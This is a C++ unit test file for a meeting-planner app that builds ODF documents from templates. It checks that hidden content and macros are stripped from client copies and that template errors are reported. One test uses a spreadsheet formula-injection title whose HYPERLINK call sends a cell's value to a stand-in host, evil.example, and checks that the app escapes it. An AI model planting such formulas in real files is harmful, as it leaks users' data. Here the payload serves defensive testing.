// SPDX-License-Identifier: MPL-2.0
#include "app/check_template.hpp"
#include "app/planner.hpp"

#include "agenda/samples.hpp"
#include "odf/package.hpp"
#include "opened_planner.hpp"

#include <boost/test/unit_test.hpp>

#include <algorithm>

using namespace planerka;
using documents::Kind;
using documents::Reader;
using tests::planner;

namespace
{
std::filesystem::path file(const std::string& name)
{
    return std::filesystem::path(PLANERKA_TEST_DATA) / "templates" / name;
}

Meeting sample(const std::string& name)
{
    return parse_meeting(tests::read_text(tests::example(name))).value();
}

/// All files of the document, one after the other.
std::string bytes_of(const app::Document& document)
{
    std::string all;
    const auto files = odf::unpack(document.bytes).value();
    for (const auto& [name, bytes] : files)
        all += name + '\n' + bytes + '\n';
    return all;
}

std::string kinds_of(const std::vector<odf::Extra>& extras)
{
    std::string kinds;
    for (const auto& extra : extras)
        kinds.append(kinds.empty() ? "" : " ").append(odf::name_of(extra.kind));
    return kinds;
}

app::Document made(Kind kind, Meeting meeting, const std::string& name, Reader reader, bool keep_macros = false)
{
    if (kind == Kind::minutes)
        meeting.status = Status::held;
    auto document =
        planner().make(kind, meeting, {.reader = reader, .template_file = file(name), .keep_macros = keep_macros});
    BOOST_REQUIRE_MESSAGE(document, name << ": " << (document ? "" : document.error().code));
    return std::move(document).value();
}
} // namespace

BOOST_AUTO_TEST_SUITE(users_template_tests)

BOOST_AUTO_TEST_CASE(a_clients_copy_has_what_the_pages_show)
{
    const auto meeting = sample("retirement-planning");
    struct Template
    {
        const char* name;
        Kind kind;
        const char* inside; ///< what no page shows
        const char* extras;
    };
    for (const auto& [name, kind, inside, extras] :
         {Template{"comment.odt", Kind::minutes, "office:annotation", "comment"},
          Template{"comment_with_tags.odt", Kind::minutes, "office:annotation", "comment"},
          Template{"recorded_changes.odt", Kind::minutes, "text:tracked-changes", "deleted_text"},
          Template{"loads_from_elsewhere.odt", Kind::agenda, "track.png", "link link"},
          Template{"hidden_slide.odp", Kind::deck, "Topic x", "hidden_slide"},
          Template{"macro_and_versions.odt", Kind::agenda, "evil", "macro version foreign_part"}})
        BOOST_TEST_CONTEXT(name)
        {
            const auto of_client = made(kind, meeting, name, Reader::client);
            BOOST_TEST(bytes_of(of_client).find(inside) == std::string::npos);
            BOOST_TEST(kinds_of(of_client.taken_out) == extras);
            const auto report = app::check_template(file(name), kind);
            BOOST_REQUIRE(report);
            BOOST_TEST(kinds_of(report.value().extras) == extras);
            const auto kept = made(kind, meeting, name, Reader::internal, true);
            BOOST_TEST(bytes_of(kept).find(inside) != std::string::npos);
            BOOST_TEST(kept.taken_out.empty());
        }
    // Colleagues see comments and nothing that acts.
    BOOST_TEST(bytes_of(made(Kind::minutes, meeting, "comment.odt", Reader::internal)).find("office:annotation") !=
               std::string::npos);
    const auto for_colleagues = made(Kind::agenda, meeting, "loads_from_elsewhere.odt", Reader::internal);
    BOOST_TEST(bytes_of(for_colleagues).find("track.png") == std::string::npos);
    BOOST_TEST(kinds_of(for_colleagues.taken_out) == "link link");
    // Even who asks for macros does not send them to a client.
    BOOST_TEST(bytes_of(made(Kind::agenda, meeting, "macro_and_versions.odt", Reader::client, true)).find("evil") ==
               std::string::npos);
}

BOOST_AUTO_TEST_CASE(a_title_in_a_formula_is_a_text)
{
    auto meeting = sample("pipeline-review");
    meeting.title = R"(Q"&HYPERLINK("http://evil.example/?"&B2;"details")&")";
    const auto all = bytes_of(made(Kind::cost, meeting, "formula_text.ods", Reader::internal));
    BOOST_TEST(all.find("&quot;Q&quot;&quot;&amp;HYPERLINK(&quot;&quot;http") != std::string::npos);
    BOOST_TEST(all.find("&quot;Q&quot;&amp;HYPERLINK") == std::string::npos);
}

BOOST_AUTO_TEST_CASE(what_making_refuses_checking_refuses_too)
{
    const auto meeting = sample("pipeline-review");
    for (const auto& [name, error] : {std::pair{"list_as_text.odt", "template.not_printable"},
                                      {"dot_alone.odt", "template.not_printable"},
                                      {"typing_errors.odt", "template.unknown_field_near"}})
    {
        const auto failed = planner().make(Kind::agenda, meeting, {.template_file = file(name)});
        BOOST_REQUIRE(!failed);
        BOOST_TEST(failed.error().code == error, name);
        const auto report = app::check_template(file(name), Kind::agenda);
        BOOST_REQUIRE(report);
        BOOST_TEST(report.value().fits.empty(), name);
    }
    for (const auto& [name, error] :
         {std::pair{"crossed_sections.odt", "template.unbalanced"}, {"split_brace.odt", "template.split_brace"}})
    {
        BOOST_TEST(planner().make(Kind::agenda, meeting, {.template_file = file(name)}).error().code == error);
        BOOST_TEST(app::check_template(file(name)).error().code == error);
    }
    const auto crossed = app::check_template(file("crossed_sections.odt")).error();
    BOOST_TEST(crossed.args.at("name") == "goals");
    BOOST_TEST(crossed.args.at("other") == "has_goals");
}

BOOST_AUTO_TEST_CASE(the_nearest_name_is_offered)
{
    const auto error =
        planner().make(Kind::agenda, sample("pipeline-review"), {.template_file = file("typing_errors.odt")}).error();
    BOOST_TEST(error.args.at("name") == "titel");
    BOOST_TEST(error.args.at("nearest") == "title");
}

BOOST_AUTO_TEST_SUITE_END()
